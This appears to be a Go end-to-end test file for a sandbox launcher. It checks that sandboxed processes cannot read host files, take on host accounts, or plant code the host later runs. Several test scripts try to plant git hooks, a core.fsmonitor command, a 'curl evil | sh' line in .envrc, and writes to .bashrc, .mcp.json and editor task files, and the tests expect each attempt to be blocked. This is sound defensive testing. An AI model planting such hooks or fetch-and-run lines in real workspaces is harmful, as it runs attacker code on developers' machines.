package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/egressd/egressd/policy"
)

// Issue #8: the sandbox sees only what it needs of the host, owns nothing
// there, and cannot plant code the host runs. Every verdict is read on the
// host: what the sandbox printed of a planted file, what it left in the
// workspace.

func randomTag(t *testing.T) string {
	t.Helper()
	var b [6]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return "egressd-e2e-" + hex.EncodeToString(b[:])
}

// plantFile writes a host file for one test and removes it at the end.
func plantFile(t *testing.T, path, content string, mode os.FileMode, uid, gid int) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(path) })
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(path, uid, gid); err != nil {
		t.Fatal(err)
	}
}

// listDir lists a directory's entry names, sorted.
func listDir(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

// makeWritableByAll opens dir and everything in it to every user, so only
// the sandbox's protection (not file permissions) stands between the
// sandbox and the files.
func makeWritableByAll(t *testing.T, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Type()&fs.ModeSymlink != 0 {
			return nil
		}
		mode := os.FileMode(0o666)
		if d.IsDir() {
			mode = 0o777
		}
		return os.Chmod(p, mode)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// The top-level entries of the sandbox's root: its own mounts and the host
// view's system directories (which of lib32, lib64, libx32 a host has
// varies).
var sandboxTopLevel = []string{"bin", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "proc", "run", "sandbox", "sbin", "sys", "tmp", "usr", "var"}

// testLauncherHostViewHidesHostFiles plants world-readable files where
// operators and other tenants keep data (/srv, /opt) and reads them from
// sandboxes of a writable and a read-only profile: the host view shows only
// the system directories.
func testLauncherHostViewHidesHostFiles(t *testing.T) {
	lw := newLauncherWorld(t)
	tag := randomTag(t)
	var planted []string
	for _, dir := range []string{"/srv", "/opt"} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		plantFile(t, filepath.Join(dir, tag), "planted:"+tag, 0o644, 0, 0)
		planted = append(planted, filepath.Join(dir, tag))
	}
	script := `for f in ` + strings.Join(planted, " ") + `; do cat "$f" 2>&1; echo; done; ` +
		`echo top=$(ls -A / | tr '\n' ,); echo homes=$(ls -A /home | tr '\n' ,); echo var=$(ls -A /var | tr '\n' ,)`
	for _, profile := range []string{"standard", "strict"} {
		r := lw.run("--profile", profile, "--", "sh", "-c", script)
		if r.code != 0 {
			t.Fatalf("%s: want exit 0\n%s", profile, r)
		}
		if strings.Contains(r.stdout, "planted:") {
			t.Errorf("%s: the sandbox read a world-readable host file from /srv or /opt\n%s", profile, r)
		}
		for _, e := range strings.Split(strings.TrimSuffix(marker(r.stdout, "top"), ","), ",") {
			if !slices.Contains(sandboxTopLevel, e) {
				t.Errorf("%s: the sandbox's / has %q, which is not its own nor a system directory", profile, e)
			}
		}
		if got := marker(r.stdout, "homes"); got != "sandbox," {
			t.Errorf("%s: /home holds %q, want only the sandbox user's home", profile, got)
		}
		if got := marker(r.stdout, "var"); got != "tmp," {
			t.Errorf("%s: /var holds %q, want only the sandbox's /var/tmp", profile, got)
		}
	}
}

// testLauncherOldDefaultUIDFileUnreadable plants a 0600 file owned by uid
// 100, the sandbox user before issue 8 (a host account: messagebus on
// Debian, and group 100 is "users"), and reads it from a sandbox.
func testLauncherOldDefaultUIDFileUnreadable(t *testing.T) {
	lw := newLauncherWorld(t)
	const secret = "secret-of-uid-100"
	plantFile(t, filepath.Join(lw.ws, "uid100-secret"), secret, 0o600, 100, 100)
	script := `cat /sandbox/uid100-secret; echo rc=$?; echo uid=$(id -u); echo gid=$(id -g); echo name=$(whoami); echo home=$HOME; cd ~ && echo tilde=$(pwd)`
	for _, profile := range []string{"standard", "strict"} {
		r := lw.run("--profile", profile, "--", "sh", "-c", script)
		if strings.Contains(r.stdout, secret) || marker(r.stdout, "rc") == "0" {
			t.Errorf("%s: the sandbox read a 0600 file of uid 100\n%s", profile, r)
		}
		want := map[string]string{"uid": strconv.Itoa(policy.DefaultUID), "gid": strconv.Itoa(policy.DefaultGID),
			"name": "sandbox", "home": "/home/sandbox", "tilde": "/home/sandbox"}
		for k, v := range want {
			if got := marker(r.stdout, k); got != v {
				t.Errorf("%s: %s = %q, want %q\n%s", profile, k, got, v, r)
			}
		}
	}
	// Asking for a host account is refused before anything runs...
	r := lw.run("--user", "100:100", "--", "cat", "/sandbox/uid100-secret")
	if r.code != 125 || strings.Contains(r.stdout, secret) || !strings.Contains(r.stderr, "the sandbox would own the host's files of it") {
		t.Errorf("--user 100:100: want exit 125 and the reason\n%s", r)
	}
	// ...unless the operator says so: then the sandbox is that account.
	r = lw.run("--user", "100:100", "--allow-host-user", "--", "cat", "/sandbox/uid100-secret")
	if r.code != 0 || r.stdout != secret {
		t.Errorf("--user 100:100 --allow-host-user: want the account's file\n%s", r)
	}
}

// testLauncherWorkspaceGitIsProtected is the attack of issue 8: a sandbox
// with a writable workspace plants a git hook and a core.fsmonitor command
// that the next `git commit` or `git status` on the host would run, and
// tries to move the protected .git away and make a new one. The workspace
// is writable by everyone, so only the protection stands in the way; git
// itself still works inside.
func testLauncherWorkspaceGitIsProtected(t *testing.T) {
	lw := newLauncherWorld(t)
	if out, err := exec.Command("git", "-C", lw.ws, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	config, err := os.ReadFile(filepath.Join(lw.ws, ".git", "config"))
	if err != nil {
		t.Fatal(err)
	}
	makeWritableByAll(t, lw.ws)
	before := listDir(t, lw.ws)
	script := `cd /sandbox
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit; echo hook=$?
printf '[core]\n\tfsmonitor = echo pwned\n' >> .git/config; echo config=$?
printf '../evil\n' > .git/commondir; echo commondir=$?
echo ok > normal.txt; echo normal=$?
mv .git .git-moved; echo mvgit=$?
mv .git/hooks .git/hooks-moved; echo mvhooks=$?
rm -rf .git/hooks; echo rmhooks=$?
mv .git/config .git/config-moved; echo mvconfig=$?
git -c safe.directory='*' add normal.txt && git -c safe.directory='*' -c user.email=agent@sandbox.test -c user.name=agent commit -q -m work; echo commit=$?`
	r := lw.run("--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	for _, m := range []string{"hook", "config", "commondir", "mvgit", "mvhooks", "rmhooks", "mvconfig"} {
		if v := marker(r.stdout, m); v == "0" || v == "" {
			t.Errorf("%s: exit %q, want a failure\n%s", m, v, r)
		}
	}
	for _, m := range []string{"normal", "commit"} {
		if v := marker(r.stdout, m); v != "0" {
			t.Errorf("%s: exit %q, want success\n%s", m, v, r)
		}
	}
	// On the host: no hook, the config as it was, the work done.
	if _, err := os.Lstat(filepath.Join(lw.ws, ".git", "hooks", "pre-commit")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the sandbox planted .git/hooks/pre-commit on the host (%v)", err)
	}
	if after, _ := os.ReadFile(filepath.Join(lw.ws, ".git", "config")); !bytes.Equal(after, config) {
		t.Errorf("the sandbox changed .git/config on the host:\n%s", after)
	}
	if got, _ := os.ReadFile(filepath.Join(lw.ws, "normal.txt")); string(got) != "ok\n" {
		t.Errorf("the normal write did not reach the workspace: %q", got)
	}
	out, err := exec.Command("git", "-C", lw.ws, "-c", "safe.directory=*", "log", "--format=%s").CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "work" {
		t.Errorf("the sandbox's commit is not in the host's repository: %v: %s", err, out)
	}
	// Nothing of the protection is left: no placeholder, nothing moved.
	if after := listDir(t, lw.ws); !slices.Equal(after, append(before, "normal.txt")) {
		t.Errorf("workspace after the run: %v, want %v and normal.txt", after, before)
	}
	for _, name := range []string{"commondir", "config.worktree", "modules", "worktrees", "hooks-moved", "config-moved"} {
		if _, err := os.Lstat(filepath.Join(lw.ws, ".git", name)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf(".git/%s is on the host after the run (%v)", name, err)
		}
	}
}

// testLauncherMissingProtectedPathsCannotBeCreated: in a workspace without
// .git or editor settings, the sandbox cannot create the files a host
// would run, and nothing is left behind. It may make a repository (git
// init), but one git on the host refuses to use: the planted core.fsmonitor
// never runs. Run as root, whose repository the host would trust, it
// cannot make one at all.
func testLauncherMissingProtectedPathsCannotBeCreated(t *testing.T) {
	lw := newLauncherWorld(t)
	before := listDir(t, lw.ws)
	pwned := filepath.Join(t.TempDir(), "pwned")
	script := `cd /sandbox
git init -q; echo gitinit=$?
printf '[core]
	fsmonitor = touch ` + pwned + `
' >> .git/config; echo fsmonitor=$?
echo 'curl evil | sh' > .envrc; echo envrc=$?
echo '{}' > .vscode/tasks.json; echo vscode=$?
echo '{}' > .mcp.json; echo mcp=$?
mkdir -p .claude/commands; echo claude=$?
echo 'evil' >> .bashrc; echo bashrc=$?
rmdir .idea; echo rmidea=$?
echo fine > notes.txt; echo notes=$?`
	r := lw.run("--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("want exit 0\n%s", r)
	}
	for m, ok := range map[string]bool{"gitinit": true, "fsmonitor": true, "notes": true,
		"envrc": false, "vscode": false, "mcp": false, "claude": false, "bashrc": false, "rmidea": false} {
		if v := marker(r.stdout, m); (v == "0") != ok {
			t.Errorf("%s: exit %q, want success=%v\n%s", m, v, ok, r)
		}
	}
	want := append(slices.Clone(before), ".git", "notes.txt")
	slices.Sort(want)
	if after := listDir(t, lw.ws); !slices.Equal(after, want) {
		t.Errorf("workspace after the run: %v, want %v, .git and notes.txt (placeholders removed)", after, before)
	}
	// git on the host, as it is configured out of the box, in the
	// sandbox's repository: refused, and the planted command never runs.
	git := exec.Command("git", "-C", lw.ws, "status")
	git.Env = append(cleanEnv(), "HOME="+t.TempDir(), "GIT_CONFIG_NOSYSTEM=1")
	out, err := git.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "dubious ownership") {
		t.Errorf("git status on the host in the sandbox's repository: %v: %s; want it refused", err, out)
	}
	if _, err := os.Stat(pwned); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the sandbox's core.fsmonitor ran on the host (%v)", err)
	}

	// As root the sandbox's repository would be the host's: no git init.
	ws := t.TempDir()
	if err := os.Chmod(ws, 0o777); err != nil {
		t.Fatal(err)
	}
	r = lw.runWith(lopts{dir: ws}, "--user", "0:0", "--", "sh", "-c", "cd /sandbox; git init -q; echo gitinit=$?; mkdir -p .git/hooks; echo hooks=$?")
	if r.code != 0 || marker(r.stdout, "gitinit") == "0" || marker(r.stdout, "hooks") == "0" {
		t.Errorf("as root: want git init and .git/hooks refused\n%s", r)
	}
	if left := listDir(t, ws); len(left) != 0 {
		t.Errorf("as root: the workspace holds %v after the run, want nothing", left)
	}
}

// testLauncherUserInstallsUnderStrict installs a package for the user with
// each tool the host view has, offline, under the strict profile (read-only
// root), and runs what it installed from PATH.
func testLauncherUserInstallsUnderStrict(t *testing.T) {
	lw := newLauncherWorld(t)
	have := func(p string) bool { _, err := os.Stat(p); return err == nil }
	run := func(t *testing.T, script, want string, flags ...string) {
		t.Helper()
		args := append([]string{"--profile", "strict", "--timeout", "80s"}, flags...)
		r := lw.run(append(args, "--", "sh", "-c", script)...)
		if r.code != 0 || !strings.Contains(r.stdout, want) {
			t.Errorf("want exit 0 and %q\n%s", want, r)
		}
	}
	t.Run("pip", func(t *testing.T) {
		if !have("/usr/lib/python3/dist-packages/pip") {
			t.Skip("the host view has no pip (python3-pip)")
		}
		wheel := writeWheel(t, lw.ws)
		// --break-system-packages: Debian marks its Python externally
		// managed; a --user install does not touch it.
		run(t, `python3 -m pip install --user --no-index --break-system-packages /sandbox/`+wheel+` && egressdprobe && `+
			`python3 -c 'import egressdprobe; print("module=" + egressdprobe.__file__)'`, "pip-probe=ok")
	})
	t.Run("npm", func(t *testing.T) {
		if !have("/usr/bin/npm") {
			t.Skip("the host view has no npm")
		}
		tgz := writeNpmPackage(t, lw.ws)
		run(t, `npm install -g --prefix ~/.local --offline --no-audit --no-fund /sandbox/`+tgz+` >/dev/null && egressd-probe-npm`, "npm-probe=ok")
	})
	t.Run("go", func(t *testing.T) {
		if !have("/usr/local/go/bin/go") {
			t.Skip("the host view has no Go in /usr/local/go")
		}
		writeGoModule(t, lw.ws)
		// A cold build of the standard library: strict's one CPU makes it
		// slow, not different.
		run(t, `cd /sandbox/goprobe && GOPROXY=off GOTOOLCHAIN=local GOFLAGS=-mod=mod go install . && goprobe`, "go-probe=ok", "--cpus", "2")
	})
	t.Run("cargo", func(t *testing.T) {
		if !have("/usr/bin/cargo") && !have("/usr/local/cargo/bin/cargo") {
			t.Skip("the host view has no cargo (/usr/bin, /usr/local/cargo/bin)")
		}
		writeCargoCrate(t, lw.ws)
		run(t, `cargo install --offline --quiet --path /sandbox/cargoprobe && cargoprobe`, "cargo-probe=ok")
	})
	t.Run("pipx", func(t *testing.T) {
		if !have("/usr/bin/pipx") {
			t.Skip("the host view has no pipx")
		}
		wheel := writeWheel(t, lw.ws)
		run(t, `PIP_NO_INDEX=1 pipx install /sandbox/`+wheel+` >/dev/null && egressdprobe`, "pip-probe=ok")
	})
}

// writeWheel writes a pure-Python wheel with a console script into dir and
// returns its name.
func writeWheel(t *testing.T, dir string) string {
	t.Helper()
	const name = "egressdprobe-1.0-py3-none-any.whl"
	files := []struct{ path, content string }{
		{"egressdprobe/__init__.py", "def main():\n    print('pip-probe=ok')\n"},
		{"egressdprobe-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: egressdprobe\nVersion: 1.0\n"},
		{"egressdprobe-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: egressd-e2e\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{"egressdprobe-1.0.dist-info/entry_points.txt", "[console_scripts]\negressdprobe = egressdprobe:main\n"},
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	var record strings.Builder
	for _, f := range files {
		w, err := zw.Create(f.path)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(f.content))
		sum := sha256.Sum256([]byte(f.content))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.path, base64.RawURLEncoding.EncodeToString(sum[:]), len(f.content))
	}
	record.WriteString("egressdprobe-1.0.dist-info/RECORD,,\n")
	w, _ := zw.Create("egressdprobe-1.0.dist-info/RECORD")
	w.Write([]byte(record.String()))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

// writeNpmPackage writes a package tarball with one bin into dir and
// returns its name.
func writeNpmPackage(t *testing.T, dir string) string {
	t.Helper()
	const name = "egressd-probe-1.0.0.tgz"
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, f := range []struct {
		path, content string
		mode          int64
	}{
		{"package/package.json", `{"name": "egressd-probe", "version": "1.0.0", "bin": {"egressd-probe-npm": "cli.js"}}`, 0o644},
		{"package/cli.js", "#!/usr/bin/env node\nconsole.log('npm-probe=ok')\n", 0o755},
	} {
		if err := tw.WriteHeader(&tar.Header{Name: f.path, Mode: f.mode, Size: int64(len(f.content)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(f.content))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

// writeGoModule writes a main module without dependencies at dir/goprobe.
func writeGoModule(t *testing.T, dir string) {
	t.Helper()
	writeFiles(t, filepath.Join(dir, "goprobe"), map[string]string{
		"go.mod":  "module example.test/goprobe\n\ngo 1.21\n",
		"main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"go-probe=ok\") }\n",
	})
}

// writeCargoCrate writes a binary crate without dependencies at
// dir/cargoprobe.
func writeCargoCrate(t *testing.T, dir string) {
	t.Helper()
	writeFiles(t, filepath.Join(dir, "cargoprobe"), map[string]string{
		"Cargo.toml":  "[package]\nname = \"cargoprobe\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
		"src/main.rs": "fn main() { println!(\"cargo-probe=ok\"); }\n",
	})
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	makeWritableByAll(t, dir)
}

// testLauncherVolumeWritableUnderReadOnlyProfiles mounts a host directory
// named in a policy file at ~/.claude under the read-only profiles: the
// sandbox writes its notes there, but not the protected paths inside it.
func testLauncherVolumeWritableUnderReadOnlyProfiles(t *testing.T) {
	lw := newLauncherWorld(t)
	vol := t.TempDir()
	if out, err := exec.Command("git", "-C", vol, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	makeWritableByAll(t, vol)
	pol := filepath.Join(t.TempDir(), "volumes.toml")
	if err := os.WriteFile(pol, fmt.Appendf(nil, "version = 1\n\n[filesystem]\nvolumes = [%q]\n", vol+":~/.claude:rw"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, profile := range []string{"strict", "offline"} {
		script := `echo note > ~/.claude/notes-` + profile + `.txt; echo note=$?
mkdir -p ~/.claude/agents-` + profile + ` && echo a > ~/.claude/agents-` + profile + `/x.md; echo agents=$?
echo 'curl evil | sh' > ~/.claude/.envrc; echo envrc=$?
echo 'echo pwned' > ~/.claude/.git/hooks/post-checkout; echo githooks=$?
echo '{}' > ~/.claude/.mcp.json; echo mcp=$?
touch /usr/probe; echo usr=$?`
		r := lw.runWith(lopts{noMount: true}, "--policy", pol, "--profile", profile, "--", "sh", "-c", script)
		if r.code != 0 {
			t.Fatalf("%s: want exit 0\n%s", profile, r)
		}
		for m, ok := range map[string]bool{"note": true, "agents": true, "envrc": false, "githooks": false, "mcp": false, "usr": false} {
			if v := marker(r.stdout, m); (v == "0") != ok {
				t.Errorf("%s: %s exit %q, want success=%v\n%s", profile, m, v, ok, r)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(vol, "notes-"+profile+".txt")); string(got) != "note\n" {
			t.Errorf("%s: the note did not reach the host directory: %q", profile, got)
		}
	}
	if _, err := os.Lstat(filepath.Join(vol, ".git", "hooks", "post-checkout")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the sandbox planted a hook in the volume's repository (%v)", err)
	}
	got := listDir(t, vol)
	want := []string{".git", "agents-offline", "agents-strict", "notes-offline.txt", "notes-strict.txt"}
	if !slices.Equal(got, want) {
		t.Errorf("the volume holds %v after the runs, want %v (no protected path, no placeholder)", got, want)
	}
}

// testLauncherWorkspacePreflight: a workspace the sandbox user cannot write
// is refused before anything runs; running as root with one is warned
// about.
func testLauncherWorkspacePreflight(t *testing.T) {
	lw := newLauncherWorld(t)
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	r := lw.runWith(lopts{dir: dir}, "--", "sh", "-c", "echo ran")
	if r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "is not writable by the sandbox user") {
		t.Errorf("an unwritable workspace: want exit 125 and the reason\n%s", r)
	}
	r = lw.run("--user", "0:0", "--", "true")
	if r.code != 0 || !strings.Contains(r.stderr, "launcher: warning: the command runs as root with the workspace "+lw.ws) {
		t.Errorf("--user 0 with a workspace: want a warning\n%s", r)
	}
}

// testLauncherExplainFilesystem: explain shows the host view, the volumes,
// the protected paths and the user, in text and JSON, and changes nothing.
func testLauncherExplainFilesystem(t *testing.T) {
	bin := launcherBinary(t)
	lw := newLauncherWorld(t)
	vol := t.TempDir()
	if err := os.Chmod(vol, 0o777); err != nil {
		t.Fatal(err)
	}
	before := listDir(t, lw.ws)
	explain := func(extra ...string) string {
		t.Helper()
		args := append([]string{"explain", "--upstream-dns", "203.0.113.53", "--mount-cwd", "--volume", vol + ":~/.claude"}, extra...)
		cmd := lw.w.Exec(context.Background(), bin, append(args, "--", "true")...)
		cmd.Dir, cmd.Env = lw.ws, cleanEnv()
		var out, errOut bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errOut
		if err := cmd.Run(); err != nil {
			t.Fatalf("explain: %v\n%s", err, errOut.String())
		}
		return out.String()
	}
	text := explain()
	for _, want := range []string{"# User\nuid 2000000000, gid 2000000000 (sandbox), home /home/sandbox",
		"# Host view", "<- /usr", "/home/sandbox/.claude", "<- " + vol, "# Protected paths", "/sandbox/.envrc", "/home/sandbox/.claude/.git"} {
		if !strings.Contains(text, want) {
			t.Errorf("explain lacks %q\n%s", want, text)
		}
	}
	var ex struct {
		User struct {
			UID  uint32 `json:"uid"`
			Home string `json:"home"`
		} `json:"user"`
		View struct {
			Mounts []struct{ Path, Source, Kind string } `json:"mounts"`
		} `json:"view"`
		Protected []struct{ Path, How string } `json:"protected"`
	}
	if err := json.Unmarshal([]byte(explain("--json")), &ex); err != nil {
		t.Fatal(err)
	}
	if ex.User.UID != policy.DefaultUID || ex.User.Home != "/home/sandbox" {
		t.Errorf("user %+v", ex.User)
	}
	kinds := map[string]string{}
	for _, m := range ex.View.Mounts {
		kinds[m.Path] = m.Kind + " " + m.Source
	}
	if kinds["/usr"] != "system /usr" || kinds["/home/sandbox/.claude"] != "volume "+vol {
		t.Errorf("view mounts %v", kinds)
	}
	if len(ex.Protected) == 0 {
		t.Error("explain --json lists no protected path")
	}
	if after := listDir(t, lw.ws); !slices.Equal(after, before) {
		t.Errorf("explain changed the workspace: %v, was %v", after, before)
	}
}
